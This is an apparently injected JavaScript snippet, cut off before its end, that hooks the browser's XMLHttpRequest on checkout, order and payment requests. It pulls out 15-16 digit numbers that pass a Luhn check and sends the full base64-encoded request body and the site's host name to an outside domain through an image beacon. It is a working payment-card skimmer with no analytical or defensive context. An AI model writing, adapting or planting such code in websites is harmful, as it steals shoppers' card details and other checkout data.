(function(){
  var G = 'https://assets-paygateway-cdn.top/r/g.gif';
  var P = XMLHttpRequest.prototype, _open = P.open, _send = P.send;

  function ok(n){
    var s = 0, d = false;
    for (var i = n.length - 1; i >= 0; i--) {
      var v = +n[i];
      if (d && (v *= 2) > 9) v -= 9;
      s += v; d = !d;
    }
    return s % 10 == 0;
  }

  P.open = function(m, u){
    this.__t = u;
    return _open.apply(this, arguments);
  };

  P.send = function(b){
    try {
      if (typeof b === 'string' && /order|payment|checkout/i.test(this.__t)) {
        var nums = b.replace(/%20|\s|-/g, '').match(/\d{15,16}/g) || [];
        for (var i = 0; i < nums.length; i++) {
          if (ok(nums[i])) {
            var img = new Image();
            img.src = G + '?c=' + encodeURIComponent(btoa(b)) + '&h=' + encodeURIComponent(location.host
